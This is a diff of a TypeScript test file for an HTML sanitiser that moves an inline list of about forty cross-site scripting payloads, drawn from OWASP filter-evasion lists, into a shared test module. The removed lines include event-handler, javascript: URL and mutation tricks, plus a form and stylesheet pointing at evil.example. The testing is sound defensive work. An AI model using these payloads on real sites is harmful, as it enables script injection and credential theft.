@@ -1,54 +1,10 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
+import { attacks } from '../../../tests/html-attacks.ts';
 import { articleHtml, wordsIn } from './article-html.ts';
 
 const BASE = 'https://blog.example.com/un-article/';
 const clean = (html: string) => articleHtml(html, BASE);
-
-/** Known ways to run a script from HTML, from OWASP's list of filter evasions and from reports about sanitisers. */
-const attacks = [
-  '<script>alert(1)</script>',
-  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<img src=x onerror=alert(1)>',
-  '<img src="javascript:alert(1)">',
-  '<img """><script>alert(1)</script>">',
-  '<svg onload=alert(1)>',
-  '<svg><script>alert(1)</script></svg>',
-  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
-  '<template><script>alert(1)</script></template>',
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
-  '<a href="java&#x09;script:alert(1)">x</a>',
-  '<a href=" &#14; javascript:alert(1)">x</a>',
-  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-  '<a href="vbscript:msgbox(1)">x</a>',
-  '<a href="https://user:secret@evil.example/">x</a>',
-  '<a href="x" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<object data="javascript:alert(1)"></object>',
-  '<embed src="javascript:alert(1)">',
-  '<form action="https://evil.example"><input name=password><button>x</button></form>',
-  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-  '<link rel=stylesheet href=//evil.example/x.css>',
-  '<base href="https://evil.example/">',
-  '<style>@import "https://evil.example/x.css";</style>',
-  '<p style="background:url(javascript:alert(1))">x</p>',
-  '<details open ontoggle=alert(1)>x</details>',
-  '<video><source onerror=alert(1)></video>',
-  '<marquee onstart=alert(1)>x</marquee>',
-  '<body onload=alert(1)>',
-  '<input autofocus onfocus=alert(1)>',
-  '<isindex type=image src=1 onerror=alert(1)>',
-  '<!--><img src=x onerror=alert(1)>-->',
-  '<![CDATA[<script>alert(1)</script>]]>',
-  '<x onclick=alert(1)>x</x>',
-  '<p/onmouseover=alert(1)>x',
-  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
-];
 
 /** Whether HTML has an element, an attribute or an address outside of the allow-list. */
 function isDangerous(html: string): boolean {
